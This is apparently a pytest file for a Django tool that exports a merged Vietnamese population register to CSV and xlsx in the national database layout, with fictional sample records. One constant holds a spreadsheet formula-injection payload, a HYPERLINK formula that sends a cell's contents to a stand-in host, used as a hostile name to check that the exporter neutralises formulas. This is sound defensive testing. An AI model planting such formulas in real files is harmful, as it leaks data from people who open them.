"""The merged register in the national-population layout (issue 12 §4): one row per person,
columns named after the national database's fields, provenance, the «cần kiểm tra» flag, dates
and codes as text, formula-guarded CSV and xlsx, the layout's description, the command."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from motcua.core.errors import ValidationFailed
from motcua.registers import national_export as ne

NOW = dt.datetime(2026, 1, 15, 3, 0, tzinfo=dt.UTC)
EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
XUAN_HA = "12 Hà Huy Tập, phường Xuân Hà, quận Thanh Khê, Đà Nẵng"
DOCS = Path(__file__).resolve().parents[3] / "docs"

EXPECTED_HEADERS = [
    "STT",
    "Số định danh cá nhân",
    "Họ, chữ đệm và tên",
    "Ngày, tháng, năm sinh",
    "Giới tính",
    "Số CMND cũ",
    "Nơi thường trú",
    "Mã xã, phường (nơi thường trú)",
    "Tên xã, phường (nơi thường trú)",
    "Mã tỉnh, thành phố (nơi thường trú)",
    "Tên tỉnh, thành phố (nơi thường trú)",
    "Nơi thường trú (như danh sách cũ ghi)",
    "Kết quả chuyển đổi địa chỉ",
    "Số điện thoại",
    "Số hộ khẩu (sổ cũ)",
    "Quan hệ với chủ hộ",
    "Mã người (hợp nhất)",
    "Số bản ghi đã gộp",
    "Danh sách cũ",
    "Mã bản ghi gốc",
    "Nguồn (danh sách cũ, dòng, mã bản ghi)",
    "Cần kiểm tra",
    "Lý do cần kiểm tra",
]


def rec(rid, person, name, *, source="Phường Xuân Hà", line=2, **cells):
    return {
        "record_id": rid,
        "source": source,
        "full_name": name,
        "birth_date": cells.get("birth_date"),
        "gender": cells.get("gender"),
        "citizen_id": cells.get("citizen_id"),
        "address": cells.get("address", XUAN_HA),
        "phone": cells.get("phone"),
        "household_no": cells.get("household_no"),
        "line_no": line,
        "file_name": f"{source}.csv",
        "person_id": person,
    }


RECORDS = [
    # P000001: in two registers, the leading zero of the CCCD eaten in one, the date as 2 forms.
    rec("XH-1", "P000001", "Nguyễn Văn Hùng", birth_date="05/03/1978", gender="Nam",
        citizen_id="048078001234", phone="0905 123 456", household_no="HK-01"),
    rec("TT-1", "P000001", "NGUYEN VAN HUNG", source="Phường Tam Thuận", birth_date="5/3/1978",
        gender="nam", citizen_id="48078001234", address="12 Le Duan, Tam Thuan, Thanh Khe, Da Nang"),
    # P000002: a bare year, no ID, a hostile name, an old 9-digit CMND.
    rec("XH-2", "P000002", EVIL, line=3, birth_date="2009", gender="Nữ", citizen_id="201234567",
        household_no="-HK2", address="Tổ 5, xã Không Có, tỉnh Không Tồn Tại"),
    # P000003: one person with two different CCCDs — a clerk must look.
    rec("XH-3", "P000003", "Trần Thị Mai", line=4, birth_date="05/11/1981", gender="Nữ",
        citizen_id="048181004567"),
    rec("TT-3", "P000003", "Trần Thị Mai", source="Phường Tam Thuận", line=3, birth_date="05/11/1981",
        gender="Nữ", citizen_id="048181009999"),
]  # fmt: skip


def write_records(path: Path, records=RECORDS) -> Path:
    columns = list(records[0])
    table = pa.table(
        {c: pa.array([r[c] for r in records], pa.int64() if c == "line_no" else pa.string()) for c in columns}
    )
    pq.write_table(table, path)
    return path


@pytest.fixture
def records_file(tmp_path):
    return write_records(tmp_path / "records.parquet")


def rows_of(path):
    return ne.national_rows(ne.read_records(path), now=NOW)


def test_the_layout_columns_in_order_and_described_for_machines():
    assert list(ne.HEADERS) == EXPECTED_HEADERS
    described = ne.layout()
    assert [c["column"] for c in described["columns"]] == EXPECTED_HEADERS
    assert [c["position"] for c in described["columns"]] == list(range(1, len(EXPECTED_HEADERS) + 1))
    for column in described["columns"]:
        assert column["meaning"] and column["format"] and column["source"] and column["legal_basis"]
    # The copy in the docs is the layout itself (regenerate it when the layout changes).
    assert json.loads((DOCS / "registers-national-export.json").read_text(encoding="utf-8")) == described


def test_one_row_per_person_with_every_record_in_its_provenance(records_file):
    rows = rows_of(records_file)
    assert [r["person_id"] for r in rows] == ["P000001", "P000002", "P000003"]
    assert [r["stt"] for r in rows] == [1, 2, 3]
    hung = rows[0]
    assert hung["n_records"] == 2
    assert hung["record_ids"] == "XH-1; TT-1"
    assert hung["registers"] == "Phường Xuân Hà; Phường Tam Thuận"
    assert "Phường Xuân Hà (dòng 2, mã XH-1)" in hung["provenance"]
    assert "Phường Tam Thuận (dòng 2, mã TT-1)" in hung["provenance"]
    assert sum(r["n_records"] for r in rows) == len(RECORDS)
    every_id = {i for r in rows for i in r["record_ids"].split("; ")}
    assert every_id == {r["record_id"] for r in RECORDS}


def test_values_dates_codes_and_the_new_units(records_file):
    hung, child, mai = rows_of(records_file)
    assert hung["full_name"] == "Nguyễn Văn Hùng"  # the spelling with diacritics
    assert hung["citizen_id"] == "048078001234"  # the leading zero kept
    assert hung["birth_date"] == "05/03/1978"
    assert hung["gender"] == "Nam"
    assert hung["phone"] == "0905123456"
    assert hung["residence"] == "12 Hà Huy Tập, phường Thanh Khê, thành phố Đà Nẵng"
    assert (hung["ward_code"], hung["ward_name"]) == ("20209", "Phường Thanh Khê")
    assert (hung["province_code"], hung["province_name"]) == ("48", "Thành phố Đà Nẵng")
    assert hung["address_as_written"] == XUAN_HA
    assert hung["address_status"] == "Đã chuyển"
    assert hung["household_no"] == "HK-01"
    assert child["birth_date"] == "2009"  # a bare year stays a year
    assert child["citizen_id"] == "" and child["cmnd"] == "201234567"
    assert child["ward_code"] == "" and child["address_status"].startswith("Không chuyển được")
    assert child["residence"] == "Tổ 5, xã Không Có, tỉnh Không Tồn Tại"  # kept as written
    assert mai["gender"] == "Nữ"


def test_a_person_with_two_cccds_is_flagged(records_file):
    hung, _child, mai = rows_of(records_file)
    assert mai["flag"] == "Cần kiểm tra"
    assert "Một người, hai số CCCD khác nhau" in mai["flag_reasons"]
    assert hung["flag"] == "" and hung["flag_reasons"] == ""


def test_csv_has_a_bom_keeps_codes_and_dates_as_text_and_no_formula(records_file, tmp_path):
    out = tmp_path / "dan-cu.csv"
    ne.write(rows_of(records_file), out, "csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == EXPECTED_HEADERS
    by_person = {r[EXPECTED_HEADERS.index("Mã người (hợp nhất)")]: r for r in rows[1:]}
    hung, child = by_person["P000001"], by_person["P000002"]
    assert hung[1] == "048078001234" and hung[3] == "05/03/1978" and hung[7] == "20209" and hung[9] == "48"
    assert child[2] == "'" + EVIL  # the hostile name stays text
    assert child[EXPECTED_HEADERS.index("Số hộ khẩu (sổ cũ)")] == "'-HK2"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_cells_are_text_except_the_counts(records_file, tmp_path):
    out = tmp_path / "dan-cu.xlsx"
    ne.write(rows_of(records_file), out, "xlsx")
    sheet = load_workbook(out)[ne.SHEET_NAME]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == EXPECTED_HEADERS
    hung, child = rows[1], rows[2]
    assert hung[1].value == "048078001234" and hung[1].data_type == "s"
    assert hung[3].value == "05/03/1978" and hung[3].data_type == "s"
    assert hung[7].value == "20209" and hung[7].data_type == "s"
    assert hung[9].value == "48" and hung[9].data_type == "s"
    assert child[2].value == EVIL and child[2].data_type == "s"  # a name, not a formula
    assert child[3].value == "2009" and child[3].data_type == "s"
    assert hung[0].value == 1 and hung[EXPECTED_HEADERS.index("Số bản ghi đã gộp")].value == 2
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_reading_refuses_what_is_not_a_finished_job(tmp_path):
    with pytest.raises(ValidationFailed, match="Không tìm thấy"):
        ne.records_path(tmp_path / "khong-co")
    (tmp_path / "empty").mkdir()
    with pytest.raises(ValidationFailed, match=r"không có records\.parquet"):
        ne.records_path(tmp_path / "empty")
    other = tmp_path / "other.parquet"
    pq.write_table(pa.table({"a": [1]}), other)
    with pytest.raises(ValidationFailed, match="thiếu cột"):
        ne.read_records(other)
    broken = tmp_path / "broken.parquet"
    broken.write_bytes(b"PAR1\x00\x00garbage")
    with pytest.raises(ValidationFailed, match="không đọc được"):
        ne.read_records(broken)
    text = tmp_path / "records.csv"
    text.write_text("a\n")
    with pytest.raises(ValidationFailed, match=r"records\.parquet"):
        ne.records_path(text)


def test_a_job_folder_means_its_last_run(tmp_path):
    job = tmp_path / "job-7"
    for run in ("run-1", "run-2", "run-10"):
        (job / run).mkdir(parents=True)
    write_records(job / "run-1" / "records.parquet", RECORDS[:1])
    write_records(job / "run-2" / "records.parquet")
    # run-10 did not finish: no records
    assert ne.records_path(job) == job / "run-2" / "records.parquet"
    assert ne.records_path(job / "run-1") == job / "run-1" / "records.parquet"


def test_the_export_of_a_run_is_made_once_and_remade_when_the_records_change(tmp_path):
    run = tmp_path / "run-1"
    run.mkdir()
    write_records(run / "records.parquet", RECORDS[:2])
    first = ne.export_for_run(run_folder=run, fmt="csv", now=NOW)
    assert first.read_bytes().count(b"\r\n") == 2  # header + one person
    assert ne.export_for_run(run_folder=run, fmt="csv", now=NOW) == first
    write_records(run / "records.parquet")  # e.g. decisions applied to the same run
    second = ne.export_for_run(run_folder=run, fmt="csv", now=NOW)
    assert second != first and not first.exists()
    assert second.read_bytes().count(b"\r\n") == 4
    with pytest.raises(ValidationFailed):
        ne.export_for_run(run_folder=run, fmt="pdf", now=NOW)


def test_the_command_writes_csv_and_xlsx(records_file, tmp_path, capsys):
    call_command("registers", "export-national", str(records_file.parent), "--out", str(tmp_path / "o.csv"))
    assert "Đã xuất 3 người (từ 5 bản ghi), 1 người cần kiểm tra" in capsys.readouterr().out
    assert (tmp_path / "o.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    call_command("registers", "export-national", str(records_file), "--out", str(tmp_path / "o.xlsx"))
    assert load_workbook(tmp_path / "o.xlsx")[ne.SHEET_NAME].max_row == 4


@pytest.mark.parametrize(
    ("src", "out", "message"),
    [
        ("khong-co", "o.csv", "Không tìm thấy"),
        ("records.parquet", "o.pdf", ".csv hoặc .xlsx"),
        ("bad.parquet", "o.csv", "không đọc được"),
    ],
)
def test_the_command_exits_2_on_bad_input(records_file, tmp_path, src, out, message):
    (tmp_path / "bad.parquet").write_bytes(b"not parquet")
    with pytest.raises(CommandError) as caught:
        call_command("registers", "export-national", str(tmp_path / src), "--out", str(tmp_path / out))
    assert caught.value.returncode == 2 and message in str(caught.value)
    assert not (tmp_path / out).exists()


def test_the_kept_export_follows_the_records_file_not_only_its_time_and_size(tmp_path):
    """records.parquet rewritten (moved into place) with the same size and a time the file system
    cannot tell apart: a new file all the same, whose export is not the old one."""
    run = tmp_path / "run-1"
    run.mkdir()
    write_records(run / "records.parquet", RECORDS[:2])
    old = ne.write_run_exports(run_folder=run, now=NOW)["csv"]
    stat = (run / "records.parquet").stat()
    new = run / ".records.parquet.new"
    new.write_bytes((run / "records.parquet").read_bytes())
    os.utime(new, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    os.replace(new, run / "records.parquet")
    assert ne.existing_export(run) == {"csv": None, "xlsx": None}
    assert ne.write_run_exports(run_folder=run, now=NOW)["csv"] != old and not old.exists()
